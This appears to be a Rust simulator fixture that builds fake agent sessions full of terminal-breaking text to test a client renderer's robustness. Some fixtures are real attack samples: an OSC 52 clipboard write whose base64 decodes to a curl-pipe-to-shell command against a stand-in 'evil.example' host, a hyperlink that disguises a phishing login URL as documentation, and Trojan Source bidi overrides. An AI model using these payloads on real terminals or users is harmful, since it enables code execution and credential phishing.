//! `hostile`: a workspace whose agents say everything that can break a client: escape
//! sequences (CSI, OSC 52 clipboard writes, OSC 8 links, C1 controls), bidi overrides, ZWJ
//! emoji families, flags, a lone ZWJ, soft hyphens, variation selectors, combining marks, wide
//! CJK, very long unbroken lines, a 20 MB tool output, a 10,000-deep tool input, a lone
//! surrogate escape, timestamps that lie ("yesterday", the year 2999), an event type no client
//! knows, and a session object that cannot be read. Otherwise a believable sandbox a tester
//! would pick to watch overseer survive: the events are well-formed where the API's are, and
//! one session keeps talking live.
//!
//! Events that JSON values cannot hold (a lone surrogate, nesting past serde's limit, a
//! `processed_at` that is not a time) are stored as raw text, in order, like any other.

use std::sync::Arc;

use serde_json::{Value, json};

use super::{AgentSpec, toolset};
use crate::sim::clock::{HOUR, MINUTE, Micros, SECOND, rfc3339};
use crate::sim::world::*;

/// Written by the simulator in place of this character in a session object: the escape of a
/// lone surrogate (`\ud800`), valid JSON syntax that no UTF-8 string can hold
/// (`http/faults.rs`). A noncharacter, so no real text carries it.
pub const LONE_SURROGATE_MARK: char = '\u{FFFF}';

/// The size of the huge tool output.
pub const HUGE_OUTPUT_BYTES: usize = 20 * 1024 * 1024;

/// The nesting depth of the deep tool input.
pub const DEEP_NESTING: usize = 10_000;

/// What the agents say: each a class of text a terminal must not obey or mis-measure.
pub const HOSTILE_TEXTS: &[&str] = &[
    // CSI: clear the screen, move the cursor, colours, hide the cursor.
    "Clearing your screen\u{1b}[2J\u{1b}[H and painting it \u{1b}[31;1mred\u{1b}[0m, then moving the cursor \u{1b}[10;10Hhere and hiding it\u{1b}[?25l.",
    // OSC 52: write the clipboard; OSC 0: set the window title.
    "Copied the fix to your clipboard\u{1b}]52;c;Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgc2g=\u{7} and renamed the window\u{1b}]0;pwned\u{7}.",
    // OSC 8: a hyperlink whose text lies about its target.
    "Docs: \u{1b}]8;;https://evil.example/login\u{1b}\\https://docs.anthropic.com\u{1b}]8;;\u{1b}\\ (click to read).",
    // C1 controls, backspace, bell, carriage return, DEL.
    "C1 controls: \u{9b}31mCSI\u{9b}0m, \u{9d}0;title\u{9c}, \u{90}DCS\u{9c}, NEL\u{85}here; backspace a\u{8}b; bell\u{7}; carriage\rreturn; delete\u{7f}d.",
    // Bidi: a right-to-left override that hides an extension, isolates, marks (Trojan Source).
    "Invoice attached: invoice_\u{202e}fdp.exe\u{202c} — and the check: if (isAdmin) {\u{202e} } \u{2066}// check later\u{2069} { \u{200f}rlm \u{61c}alm \u{200e}lrm",
    // ZWJ sequences, skin tones, flags, a lone regional indicator, a lone ZWJ.
    "Team: 👨\u{200d}👩\u{200d}👧\u{200d}👦 family, 👩🏽\u{200d}💻 coder, 🏳\u{fe0f}\u{200d}🌈 flag, 🇯🇵🇺🇦🇬🇧🇺🇸 flags, a lone 🇦 indicator, a lone ZWJ a\u{200d}b, a trailing ZWJ\u{200d}",
    // Soft hyphens, variation selectors, keycaps, zero-width characters, combining marks.
    "soft\u{ad}hyphen\u{ad}ated; ❤\u{fe0e} text heart and ❤\u{fe0f} emoji heart; keycap 1\u{fe0f}\u{20e3}; zero\u{200b}width, word\u{2060}joiner, BOM\u{feff}here; Z\u{351}\u{352}\u{357}a\u{300}\u{301}\u{302}\u{303}l\u{324}\u{325}g\u{336}o, e\u{301} vs é",
    // Wide CJK, Hangul, fullwidth Latin, astral ideographs.
    "漢字テスト：全角文字の幅は二つのセルです。한국어 텍스트도 있습니다. ｆｕｌｌｗｉｄｔｈ ＡＢＣ, 𠜎𠜱𠝹𠱓 (astral), mixed 中a文b字c",
    // Tabs and line separators.
    "col1\tcol2\tcol3\nvalue\t\tend\u{2028}line separator\u{2029}paragraph separator\u{85}next line",
];

/// A very long line with no break opportunity (a minified bundle, a data URL).
fn long_unbroken_line() -> String {
    let mut s = String::from("data:application/javascript;base64,");
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for i in 0..20_000usize {
        s.push(char::from(alphabet[(i * 7 + i / 64) % alphabet.len()]));
    }
    s
}

/// A build log of about `HUGE_OUTPUT_BYTES`, as `cat build/full.log` would print it, written
/// straight as a JSON string literal (it is plain ASCII: only its line breaks need escaping).
fn huge_log_json() -> String {
    use std::fmt::Write;
    let mut s = String::with_capacity(HUGE_OUTPUT_BYTES + 256);
    s.push('"');
    let mut i = 0u64;
    while s.len() < HUGE_OUTPUT_BYTES {
        let level = if i.is_multiple_of(9973) {
            "WARN"
        } else {
            "INFO"
        };
        let cache = if i.is_multiple_of(3) { "miss" } else { "hit" };
        let _ = write!(
            s,
            "2026-12-06T{:02}:{:02}:{:02}.{:03}Z [worker-{}] {level} compiling unit {} of 230000 (cache {cache})\\n",
            (i / 3_600_000) % 24,
            (i / 60_000) % 60,
            (i / 1000) % 60,
            i % 1000,
            i % 8,
            i + 1,
        );
        i += 1;
    }
    s.push('"');
    s
}

/// A tool input nested `DEEP_NESTING` arrays deep (raw JSON: serde_json refuses past 128).
fn deep_input() -> String {
    format!(
        r#"{{"path":"config/tree.json","tree":{}{}}}"#,
        "[".repeat(DEEP_NESTING),
        "]".repeat(DEEP_NESTING)
    )
}

/// Store `json` (raw text, with `id` and `processed_at` already in it) as the next event.
fn push_raw(s: &mut Session, idg: &mut Gen, at: Micros, id: String, kind: &str, json: String) {
    let at = at.max(s.last_ts + 1);
    s.last_ts = at;
    s.updated_at = at;
    let seq = idg.seq();
    s.history.push(StoredEvent {
        seq,
        id,
        kind: kind.to_owned(),
        processed_at: at,
        json: Arc::from(json),
    });
}

/// A run of events one `step` apart, from `at`; returns the time after the last.
struct Writer<'a> {
    s: &'a mut Session,
    idg: &'a mut Gen,
    at: Micros,
    step: Micros,
}

impl Writer<'_> {
    fn emit(&mut self, ev: Value) -> String {
        self.at += self.step;
        self.s.emit(self.idg, self.at, None, ev)
    }
    fn raw(&mut self, kind: &str, build: impl FnOnce(&str, &str) -> String) -> String {
        self.at += self.step;
        let id = self.idg.id("sevt_");
        let json = build(&id, &rfc3339(self.at.max(self.s.last_ts + 1)));
        push_raw(self.s, self.idg, self.at, id.clone(), kind, json);
        id
    }
    fn say(&mut self, text: &str) -> String {
        self.emit(json!({"type": "agent.message", "content": [{"type": "text", "text": text}]}))
    }
    fn user(&mut self, text: &str) -> String {
        self.emit(json!({"type": "user.message", "content": [{"type": "text", "text": text}]}))
    }
    fn turn_start(&mut self) -> String {
        self.emit(json!({"type": "session.status_running"}));
        self.emit(json!({"type": "span.model_request_start"}))
    }
    fn turn_end(&mut self, start: &str) {
        self.emit(json!({"type": "span.model_request_end", "model_request_start_id": start, "is_error": false, "model_usage": {"input_tokens": 18_204, "output_tokens": 1_377, "cache_creation_input_tokens": 0, "cache_read_input_tokens": 52_113, "speed": "standard"}}));
        self.emit(json!({"type": "session.status_idle", "stop_reason": {"type": "end_turn"}}));
    }
    fn bash(&mut self, command: &str) -> String {
        self.emit(json!({"type": "agent.tool_use", "name": "bash", "input": {"command": command}, "evaluated_permission": "allow", "evaluation": {"type": "always_allow"}}))
    }
    fn result(&mut self, tool_use_id: &str, text: &str) -> String {
        self.emit(json!({"type": "agent.tool_result", "tool_use_id": tool_use_id, "content": [{"type": "text", "text": text}], "is_error": false}))
    }
}

pub fn build_hostile(w: &mut World) {
    let now = w.clock.origin();
    let agent = w.add_agent(
        AgentSpec {
            name: "Red Team Sandbox",
            description: "Replays hostile fixtures against client renderers.",
            model: "claude-sonnet-5",
            persona: Persona::Coder,
            system: "You print test fixtures exactly as they are, byte for byte.",
            tools: json!([toolset(
                &[("bash", "always_allow"), ("read", "always_allow")],
                "always_allow"
            )]),
            mcp_servers: json!([]),
        },
        now - 3 * 24 * HOUR,
    );
    let env = w.add_environment(
        "sandbox",
        "Isolated fixtures box.",
        json!({"type": "cloud", "networking": {"type": "limited", "allowed_hosts": [], "allow_mcp_servers": false, "allow_package_managers": false}, "packages": {"type": "packages", "apt": [], "cargo": [], "gem": [], "go": [], "npm": [], "pip": []}}),
        now - 3 * 24 * HOUR,
    );
    // A plain session first, so the workspace looks like one.
    if let Some(i) = w.create_session(
        &agent,
        &env,
        Some("Fix flaky snapshot test in the renderer".into()),
        now - 3 * HOUR,
    ) {
        w.say_to(
            i,
            "The renderer snapshot test fails one run in ten. Find out why and fix it.",
            now - 3 * HOUR,
        );
        w.run_with_approvals(i, now - 2 * HOUR);
    }
    huge_output_session(w, &agent, &env, now - 2 * HOUR);
    unreadable_session(w, &agent, &env, now - 90 * MINUTE);
    live_session(w, &agent, &env, now - 10 * MINUTE, now);
    // Last, so it is the newest: the one a tester opens first.
    hostile_text_session(w, &agent, &env, now - 5 * MINUTE);
    w.advance_to(now);
    w.sessions.sort_by_key(|s| (s.created_at, s.seq));
}

/// Every kind of hostile text in history, plus the events a typed parser cannot read.
fn hostile_text_session(w: &mut World, agent: &str, env: &str, start: Micros) {
    let title = "Hostile text: \u{1b}[31mred\u{1b}[0m \u{202e}txt.exe 👨\u{200d}👩\u{200d}👧\u{200d}👦 🇯🇵 soft\u{ad}hyphen 漢字";
    let Some(i) = w.create_session(agent, env, Some(title.into()), start) else {
        return;
    };
    let World { sessions, idg, .. } = &mut *w;
    let mut wr = Writer {
        s: &mut sessions[i],
        idg,
        at: start,
        step: 2 * SECOND,
    };
    wr.user("Print every fixture in tests/hostile/ exactly as it is, then write the deep config and decode the filenames.");
    let span = wr.turn_start();
    for text in HOSTILE_TEXTS {
        wr.say(text);
    }
    wr.say(&long_unbroken_line());
    let ls = wr.bash("ls --color=always tests/hostile/ && printf '\\033[2J'");
    wr.result(
        &ls,
        "\u{1b}[01;34mansi\u{1b}[0m  \u{1b}[01;34mbidi\u{1b}[0m  \u{1b}[01;32memoji.sh\u{1b}[0m  \u{1b}[01;31mdeep.json\u{1b}[0m\n\u{1b}[2J\u{1b}[3J",
    );
    // A tool input nested 10,000 deep.
    let deep = wr.raw("agent.tool_use", |id, at| {
        format!(
            r#"{{"type":"agent.tool_use","id":"{id}","processed_at":"{at}","name":"write","input":{},"evaluated_permission":"allow","evaluation":{{"type":"always_allow"}}}}"#,
            deep_input()
        )
    });
    wr.result(&deep, "wrote config/tree.json (20000 bytes)");
    // A lone surrogate escape in agent text.
    wr.raw("agent.message", |id, at| {
        format!(
            r#"{{"type":"agent.message","id":"{id}","processed_at":"{at}","content":[{{"type":"text","text":"Decoded the filename: report\ud800.txt (a lone surrogate, as the disk has it)."}}]}}"#
        )
    });
    // An event type from a newer server.
    wr.emit(json!({"type": "session.hologram_projected", "hologram": {"resolution": "8k", "layers": 3, "note": "a type no client knows yet"}}));
    // Timestamps that lie: not a time, and the far future.
    wr.raw("agent.message", |id, _| {
        format!(
            r#"{{"type":"agent.message","id":"{id}","processed_at":"yesterday","content":[{{"type":"text","text":"This event says it was processed yesterday."}}]}}"#
        )
    });
    wr.raw("agent.message", |id, _| {
        format!(
            r#"{{"type":"agent.message","id":"{id}","processed_at":"2999-12-31T23:59:59Z","content":[{{"type":"text","text":"This event says it was processed in the year 2999."}}]}}"#
        )
    });
    wr.say("Done: every fixture printed as it is.");
    wr.turn_end(&span);
}

/// One tool result of about 20 MB.
fn huge_output_session(w: &mut World, agent: &str, env: &str, start: Micros) {
    let Some(i) = w.create_session(
        agent,
        env,
        Some("Build log triage: 20 MB tool output".into()),
        start,
    ) else {
        return;
    };
    let World { sessions, idg, .. } = &mut *w;
    let mut wr = Writer {
        s: &mut sessions[i],
        idg,
        at: start,
        step: 3 * SECOND,
    };
    wr.user("The nightly build failed. Show me the full build log and find the first error.");
    let span = wr.turn_start();
    let cat = wr.bash("cat build/full.log");
    let text = huge_log_json();
    wr.raw("agent.tool_result", |id, at| {
        format!(
            r#"{{"type":"agent.tool_result","id":"{id}","processed_at":"{at}","tool_use_id":"{cat}","content":[{{"type":"text","text":{text}}}],"is_error":false}}"#
        )
    });
    wr.say("The log is 20 MB. There is no error in it: the build was killed by the runner's time limit while compiling unit 230000.");
    wr.turn_end(&span);
}

/// A session whose own object carries a lone surrogate: a list must skip just it.
fn unreadable_session(w: &mut World, agent: &str, env: &str, start: Micros) {
    let title = format!("Restore report{LONE_SURROGATE_MARK}.txt from the backup volume");
    let Some(i) = w.create_session(agent, env, Some(title), start) else {
        return;
    };
    let World { sessions, idg, .. } = &mut *w;
    let mut wr = Writer {
        s: &mut sessions[i],
        idg,
        at: start,
        step: 4 * SECOND,
    };
    wr.user("Restore the quarterly report from last night's backup.");
    let span = wr.turn_start();
    let find = wr.bash("ls /mnt/backup/reports/");
    wr.result(&find, "report?.txt  summary.txt");
    wr.say("Restored the report; its name has an undecodable byte, kept as it is.");
    wr.turn_end(&span);
}

/// A session that keeps saying hostile text live, one message every 4 s for ten minutes.
fn live_session(w: &mut World, agent: &str, env: &str, start: Micros, now: Micros) {
    let Some(i) = w.create_session(
        agent,
        env,
        Some("Live: streaming hostile fixtures".into()),
        start,
    ) else {
        return;
    };
    let World { sessions, idg, .. } = &mut *w;
    let s = &mut sessions[i];
    let mut wr = Writer {
        s: &mut *s,
        idg,
        at: start,
        step: 2 * SECOND,
    };
    wr.user("Keep printing the hostile fixtures, one every few seconds, for ten minutes.");
    wr.emit(json!({"type": "session.status_running"}));
    let mut beats: Vec<Beat> = HOSTILE_TEXTS
        .iter()
        .cycle()
        .take(150)
        .map(|text| Beat {
            delay: 4 * SECOND,
            thread: None,
            act: Act::Event(
                json!({"type": "agent.message", "content": [{"type": "text", "text": text}]}),
            ),
        })
        .collect();
    beats.push(Beat {
        delay: SECOND,
        thread: None,
        act: Act::Event(
            json!({"type": "session.status_idle", "stop_reason": {"type": "end_turn"}}),
        ),
    });
    s.start_script(beats, now);
}

#[cfg(test)]
mod tests {
    use super::*;

    fn world() -> World {
        let mut w = World::new(1, 1.0);
        build_hostile(&mut w);
        w
    }

    fn titled<'a>(w: &'a World, prefix: &str) -> &'a Session {
        match w
            .sessions
            .iter()
            .find(|s| s.title.as_deref().is_some_and(|t| t.starts_with(prefix)))
        {
            Some(s) => s,
            None => panic!("no session titled {prefix}…"),
        }
    }

    #[test]
    fn the_hostile_session_holds_every_unreadable_kind_in_order() {
        let w = world();
        let s = titled(&w, "Hostile text");
        let unreadable: Vec<&str> = s
            .history
            .iter()
            .filter(|e| serde_json::from_str::<Value>(&e.json).is_err())
            .map(|e| e.kind.as_str())
            .collect();
        assert_eq!(unreadable, ["agent.tool_use", "agent.message"]);
        let times: Vec<Micros> = s.history.iter().map(|e| e.processed_at).collect();
        assert!(times.windows(2).all(|p| p[0] < p[1]), "stored in order");
        let lies: Vec<String> = s
            .history
            .iter()
            .filter_map(|e| serde_json::from_str::<Value>(&e.json).ok())
            .filter_map(|v| v["processed_at"].as_str().map(str::to_owned))
            .filter(|p| !p.starts_with("20") || p.starts_with("2999"))
            .collect();
        assert_eq!(lies, ["yesterday", "2999-12-31T23:59:59Z"]);
        assert!(
            s.history
                .iter()
                .any(|e| e.kind == "session.hologram_projected")
        );
        assert!(
            s.history
                .iter()
                .any(|e| e.json.contains(r"report\ud800.txt"))
        );
        assert_eq!(s.status, Status::Idle);
        assert_eq!(
            s.history.last().map(|e| e.kind.as_str()),
            Some("session.status_idle")
        );
    }

    #[test]
    fn the_huge_output_is_one_twenty_megabyte_event() {
        let w = world();
        let s = titled(&w, "Build log triage");
        let big: Vec<usize> = s
            .history
            .iter()
            .map(|e| e.json.len())
            .filter(|&n| n > 1_000_000)
            .collect();
        assert_eq!(big.len(), 1);
        assert!(
            (HUGE_OUTPUT_BYTES..HUGE_OUTPUT_BYTES + 4096).contains(&big[0]),
            "{}",
            big[0]
        );
    }

    #[test]
    fn one_session_title_carries_the_marker_and_one_session_is_live() {
        let w = world();
        let marked = w
            .sessions
            .iter()
            .filter(|s| {
                s.title
                    .as_deref()
                    .is_some_and(|t| t.contains(LONE_SURROGATE_MARK))
            })
            .count();
        assert_eq!(marked, 1);
        assert_eq!(titled(&w, "Live:").status, Status::Running);
        assert_eq!(w.sessions.len(), 5);
        assert_eq!(
            w.sessions.last().and_then(|s| s.title.as_deref()),
            titled(&w, "Hostile text").title.as_deref()
        );
    }
}
